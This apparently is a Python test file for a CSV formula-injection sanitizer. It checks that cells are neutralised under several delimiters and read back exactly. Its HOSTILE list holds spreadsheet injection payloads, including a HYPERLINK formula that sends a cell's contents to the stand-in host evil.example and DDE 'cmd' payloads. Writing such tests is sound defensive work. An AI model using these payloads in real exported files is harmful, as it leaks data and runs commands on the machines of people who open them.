"""What a spreadsheet would run is written so that it does not, and read back to the letter."""

import csv
from io import StringIO

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from nurture.engine.spreadsheet import as_told, tame

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1", "＝1+1", "a;=1+1", 'a"=1+1', "a\t=1", "a,=1", "'=1", "-1-1", " =1",
    "a; =1",
]  # fmt: skip


@pytest.mark.parametrize("cell", HOSTILE)
def test_no_cell_begins_a_formula_wherever_a_spreadsheet_splits_the_line(cell: str) -> None:
    written = StringIO()
    csv.writer(written).writerow(["7", tame(cell)])
    for delimiter in ",;\t|":
        for row in csv.reader(StringIO(written.getvalue(), newline=""), delimiter=delimiter):
            assert not [one for one in row if one.strip(' "').startswith(DANGEROUS)]
    assert as_told(tame(cell)) == cell


@pytest.mark.parametrize("cell", ["-12.50", "+3", "1e-5", "-1,234.50", "anna@example.org", "2027-03-02", "plain", ""])
def test_numbers_days_and_addresses_stay_as_they_are(cell: str) -> None:
    assert tame(cell) == cell


@given(cell=st.text("=+-@'\";, \t\r\n1a＝"))
@example(cell="; '=")
@example(cell="'-5")
@example(cell="''-5+1")
def test_every_cell_is_read_back_to_the_letter(cell: str) -> None:
    assert as_told(tame(cell)) == cell
